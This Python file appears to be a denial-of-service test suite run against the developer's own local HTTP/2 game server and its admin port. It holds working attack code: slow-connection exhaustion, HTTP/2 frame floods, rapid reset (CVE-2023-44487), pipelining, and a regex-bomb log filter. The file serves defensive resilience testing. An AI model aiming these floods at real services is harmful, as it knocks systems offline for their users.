"""Attacks with connections and frames, before or without any call, and on the admin port."""

import contextlib
import http.client
import json
import ssl
import struct
import subprocess
import tempfile
import time
from pathlib import Path

from attacker import (
    CLOSE, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_WINDOW, PING, PREFACE, PRIORITY, RST_STREAM, SERVICE, SETTINGS,
    WINDOW_UPDATE, frame, header_block, message, text,
)
from attacks_memory import APPLY_MOVE, EVALUATE, ITEM, SHORT_SEND_TIMEOUT, STATE, STREAMS, large_board, streams
from registry import attack

# More than --max-connections.
TOO_MANY = 5000
# Seconds.
MAX_OPEN = 5
# Shorter than the default of 10 s, so that the end of the silent connections belongs to the attack.
SHORT_CALL_TIMEOUT = ("--call-timeout", "2s", *SHORT_SEND_TIMEOUT)
# A new connection is refused only if all open ones have calls.
ALL_CONNECTIONS = {"connections": (TOO_MANY,), "processes": 2, "seconds": 6}


def hold(load, first, **options):
    """Opens connections, sends the same bytes on each, and waits."""

    def script(_connection):
        yield first

    load.run(script, reads_frames=False, **options)


def closed_in_time(run):
    """The timeouts of these attacks are 2 s. After at most twice that a connection is closed."""
    if run.oldest_open > MAX_OPEN:
        yield f"a connection was still open after {run.oldest_open:.1f} s: more than {MAX_OPEN} s"


@attack("silent connections", flags=SHORT_CALL_TIMEOUT, check=closed_in_time, short=(TOO_MANY,), **ALL_CONNECTIONS)
def silent(load):
    hold(load, b"")


@attack("silent connections of one address", connections=(TOO_MANY,), flags=("--client-identity", "address"))
def silent_address(load):
    """With --client-identity address, the connections of an attacker are one client."""
    hold(load, b"", source="127.0.0.2")


@attack("connections that send one byte", flags=SHORT_CALL_TIMEOUT, check=closed_in_time, **ALL_CONNECTIONS)
def one_byte(load):
    hold(load, b"P")


@attack("half a preface", flags=SHORT_CALL_TIMEOUT, check=closed_in_time, **ALL_CONNECTIONS)
def half_a_preface(load):
    hold(load, PREFACE[:12])


@contextlib.contextmanager
def certificate():
    """Requires TLS, with a certificate that the canary trusts."""
    with tempfile.TemporaryDirectory() as folder:
        cert, key = Path(folder, "cert.pem"), Path(folder, "key.pem")
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1",
             "-subj", "/CN=localhost", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", cert],
            check=True, capture_output=True,
        )
        yield ["--tls-cert", str(cert), "--tls-key", str(key)], ["--ca", str(cert)]


@attack("half a TLS ClientHello", prepare=certificate, flags=SHORT_CALL_TIMEOUT, check=closed_in_time, **ALL_CONNECTIONS)
def half_a_client_hello(load):
    outgoing = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()
    hold(load, hello[: len(hello) // 2])


@attack("idle HTTP/2 connections", flags=SHORT_SEND_TIMEOUT, check=closed_in_time, **ALL_CONNECTIONS)
def idle_http2(load):
    """Above half of --max-connections, idle connections are closed."""
    hold(load, PREFACE + frame(SETTINGS))


@attack("connections opened and closed", connections=(50,))
def churn(load):
    def script(connection):
        yield from connection.start()
        yield CLOSE

    load.run(script, renew=True)


def slowly(load, first, drops, interval=0.2):
    """Sends a bit at a time."""

    def script(_connection):
        yield first
        while True:
            yield interval
            yield drops

    load.run(script, reads_frames=False)


@attack(
    "slow HTTP/1.1 headers", connections=(3000,), flags=("--keepalive-interval", "2s", *SHORT_SEND_TIMEOUT),
    check=closed_in_time, seconds=6,
)
def slow_headers(load):
    slowly(load, f"POST {SERVICE}ApplyMove HTTP/1.1\r\nhost: x\r\nx-slow: ".encode(), b"x", interval=0.5)


@attack(
    "slow CONTINUATION frames", connections=(50,), flags=("--keepalive-interval", "1s", "--keepalive-timeout", "1s"),
    check=closed_in_time, seconds=6,
)
def slow_continuation(load):
    start = PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, APPLY_MOVE)
    slowly(load, start, frame(CONTINUATION, 0, 1, b"\0" + text("a") + text("b")))


def flood(load, *frames, first=b"", reads=False):
    """Sends the same frames at full speed. Reads nothing."""
    block = first + b"".join(frames) * (65536 // sum(map(len, frames)))

    def script(connection):
        yield from connection.start()
        yield first
        while True:
            yield block

    load.run(script, reads=reads, renew=True, receive_buffer=None if reads else 4096)


@attack("PING flood, nothing read")
def pings(load):
    flood(load, frame(PING, payload=bytes(8)))


@attack("SETTINGS flood, nothing read", connections=(50,))
def settings(load):
    flood(load, frame(SETTINGS))


@attack("WINDOW_UPDATE flood")
def window_updates(load):
    first = frame(HEADERS, END_HEADERS, 1, APPLY_MOVE)
    flood(load, frame(WINDOW_UPDATE, stream=1, payload=struct.pack(">I", 1)), first=first, reads=True)


@attack("SETTINGS with another window for 199 streams", short=(2, 50))
def window_settings(load):
    """15 bytes each, and h2 updates every stream. Two connections got 7 % of other clients' calls refused, and fifty half of them."""
    windows = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, window)) for window in (0, MAX_WINDOW))

    def script(connection):
        yield from connection.start()
        for _ in range(STREAMS - 1):
            _, headers = connection.open(APPLY_MOVE)
            yield headers
        while True:
            yield windows * 1000

    load.run(script, renew=True)


@attack("PRIORITY flood", short=(2,))
def priorities(load):
    flood(load, frame(PRIORITY, stream=3, payload=bytes(5)), reads=True)


@attack("empty DATA flood", connections=(2,))
def empty_data(load):
    flood(load, frame(DATA, stream=1), first=frame(HEADERS, END_HEADERS, 1, EVALUATE), reads=True)


@attack("rapid reset", connections=(50,), short=(50,))
def rapid_reset(load):
    """Calls that are cancelled at once (CVE-2023-44487)."""
    body = message(STATE)

    def script(connection):
        yield from connection.start()
        while True:
            frames = []
            for _ in range(50):
                stream, headers = connection.open(APPLY_MOVE)
                reset = frame(RST_STREAM, stream=stream, payload=struct.pack(">I", 8))
                frames += [headers, frame(DATA, END_STREAM, stream, body), reset]
                connection.window -= len(body)
            yield b"".join(frames)

    load.run(script, renew=True)


@attack("messages in frames of one byte", connections=(2, 200), short=(200,), seconds=5)
def one_byte_frames(load):
    """Streams that are blocked, with requests in the smallest frames: h2 takes about 240 bytes for each."""

    def script(connection):
        yield from connection.start(window=0)
        for _ in range(STREAMS):
            stream, headers = connection.open(EVALUATE)
            yield headers
            # The response to the second item blocks the stream.
            yield from connection.data(stream, message(ITEM) * 4)
            rest = frame(DATA, stream=stream, payload=b"\0")
            for _ in range(30):
                connection.window -= 2000
                yield rest * 2000

    load.run(script, renew=True)


@attack("calls without a body, with 220 header fields", short=(50,))
def tiny_fields(load):
    """Headers within their limit of 8 KiB, in as many fields as possible."""
    names = ["a", *(f"{letter}{digit}" for letter in "abcdefghijklmnopqrstuvwxyz" for digit in "012345678")]
    streams(load, APPLY_MOVE + b"".join(b"\0" + text(name) + text("") for name in names[:220]))


@attack("pipelined HTTP/1.1 calls, nothing read", connections=(50,))
def pipelined(load):
    body = b'{"state":{"notation":"nonsense"}}'
    request = (
        f"POST {SERVICE}ApplyMove HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
    ).encode() + body

    def script(_connection):
        while True:
            yield request * 100

    load.run(script, reads=False, receive_buffer=4096)


@attack("pipelined HTTP/1.1 calls, expensive", short=(2,))
def pipelined_expensive(load):
    """Legal moves of the largest board as JSON, 1.3 ms each. Two connections made other clients wait for 2 s."""
    body = json.dumps({"state": {"notation": large_board()}})
    headers = f"host: x\r\ncontent-type: application/json\r\ncontent-length: {len(body)}"
    request = f"POST {SERVICE}ListLegalMoves HTTP/1.1\r\n{headers}\r\n\r\n{body}".encode()

    def script(_connection):
        while True:
            yield request * 30

    load.run(script, reads_frames=False, renew=True)


# New connections are refused, because all have calls.
@attack("half-sent calls on more than all connections", connections=(1500,), processes=2, max_lost=0, max_lost_new=1, short=(1500,))
def all_connections(load):
    """Each new connection closed that of the client whose last call was longest ago, even if it was in use."""
    headers = f"POST {SERVICE}ApplyMove HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 65000\r\n\r\n"
    hold(load, headers.encode(), renew=True)


# The admin port. Every run requests /metrics and /ready ten times per second.


@attack("admin port: odd log filters", connections=(0,))
def log_filters(load):
    """A filter with a regular expression of 118 bytes took 7.4 s and 475 MB."""
    bomb = "arbiter[call{id=" + "(" * 10 + ".{99}" + "){99}" * 10 + "}]=debug"
    filters = [bomb, "[", "a=" * 400, ",".join(["a::b=debug"] * 90), "x" * 1000, "\0", "off", "trace", "info"]
    filters += [f"m{number}=debug" for number in range(100)]
    while time.monotonic() < load.until:
        for text_of_filter in filters:
            connection = http.client.HTTPConnection("127.0.0.1", load.admin_port, timeout=10)
            connection.request("PUT", "/log-level", text_of_filter)
            load.counts[f"status {connection.getresponse().status}"] += 1
            connection.close()


def on_admin_port(load, first, more=None, **options):
    """Sends the same bytes on each connection to the admin port, and more at full speed."""

    def script(_connection):
        yield first
        while more:
            yield more

    load.run(script, port=load.admin_port, reads_frames=False, **options)


@attack("admin port: idle connections", connections=(2000,), short=(2000,))
def admin_idle(load):
    on_admin_port(load, b"")


@attack("admin port: half-sent requests", connections=(2000,))
def admin_half_sent(load):
    on_admin_port(load, b"GET /live HTTP/1.1\r\nhost: x\r\nx: ")


@attack("admin port: half-sent log filters", connections=(2000,))
def admin_slow_body(load):
    on_admin_port(load, b"PUT /log-level HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\ninfo")


@attack("admin port: body without end", connections=(2,))
def admin_endless_body(load):
    start = b"PUT /log-level HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
    on_admin_port(load, start, b"1000\r\n" + bytes(4096) + b"\r\n", renew=True)


@attack("admin port: /metrics at full speed", connections=(50,))
def admin_metrics(load):
    request = b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n"
    on_admin_port(load, request, request, renew=True)


@attack("admin port: /metrics, nothing read", connections=(2000,))
def admin_unread(load):
    on_admin_port(load, b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 50, reads=False, receive_buffer=4096)
